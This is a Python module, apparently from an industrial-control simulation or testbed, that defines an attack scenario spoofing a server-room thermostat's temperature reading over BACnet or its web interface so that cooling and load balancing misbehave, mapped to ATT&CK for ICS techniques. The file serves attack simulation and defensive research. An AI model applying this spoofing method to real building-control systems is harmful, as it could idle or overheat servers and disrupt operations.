"""Make the server room's thermostat read what is not so, and let it do the rest.

The thermostat is an agent: nobody presses a button when it reads heat, it asks the load balancer to move work away.
Whoever takes its input out of service and writes a number there decides how much the servers do. Told that the room is
hot, they stand idle in the cool; told that it is cool while the cooling rests, they carry on until their own
protection, which feels the true inlet, trips.

Sources: ATT&CK for ICS T1692.002 (Unauthorized Message: Reporting Message), T0832 (Manipulation of View), T0831
(Manipulation of Control), T0826 (Loss of Availability); ANSI/ASHRAE Standard 135, clause 12.2 (Out_Of_Service).
"""

from __future__ import annotations

from math import nan
from typing import ClassVar

from pydantic import Field

from twin.attacks.base import Attack, Effect, Foothold, Steps, Wait
from twin.attacks.parts.writing import Service, write_point
from twin.devices.points import INPUT


class SpoofedTemperature(Attack):
    """Write what a thermostat reads, for a while."""

    technique: ClassVar[str] = "T1692.002"
    also: ClassVar[tuple[str, ...]] = ("T0832", "T0831", "T0826")
    each: ClassVar[bool] = True
    suits: ClassVar[tuple[str, ...]] = ("thermostat",)

    inlet_c: float = Field(36.0, ge=-40, le=125, description="what it is to read, degC")
    minutes: float = Field(30, gt=0, le=1_440, description="how long, before its input is given back")
    service: Service = Field("bacnet", description="over BACnet, or the web page, which wants a session")

    def least_s(self, targets: int) -> float:
        """As long as it goes on."""
        del targets
        return 60 * self.minutes

    def steps(self, foothold: Foothold) -> Steps:
        """Write, wait, give back."""
        target = foothold.targets[0]
        if not (yield from write_point(foothold.at, target, self.service, INPUT, self.inlet_c)):
            return "failed"
        yield Effect(target, "effect_start")
        yield Wait(60 * self.minutes)
        if (yield from write_point(foothold.at, target, self.service, INPUT, nan)):
            yield Effect(target, "effect_end")
        return "success"
